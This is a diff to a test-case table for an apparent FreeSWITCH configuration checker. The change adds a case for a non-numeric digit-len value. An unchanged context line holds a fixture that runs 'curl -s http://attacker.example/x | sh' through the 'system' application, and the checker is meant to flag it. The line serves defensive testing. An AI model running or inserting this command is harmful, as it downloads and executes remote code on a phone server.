@@ -142,6 +142,8 @@ CASES = [
      "(a typo?).", DIALPLAN, 15, "warning"),
     ("unknown-menu-app", replace(MENU, "transfer queue_sales XML switchdesk", "transfr queue_sales XML switchdesk"),
      "unknown-application", "FreeSWITCH has no application 'transfr'", MENU, 13, "warning"),
+    ("value-type-other-digits", replace(MENU, 'digit-len="1"', 'digit-len="²"'), "value-type",
+     "digit-len must be a whole number from", MENU, 3, "error"),
     ("host-command", replace(DIALPLAN, '<action application="answer"/>',
                              '<action application="system" data="curl -s http://attacker.example/x | sh"/>'),
      "host-command", "The application 'system' runs a program on the FreeSWITCH server: switchdesk does not "
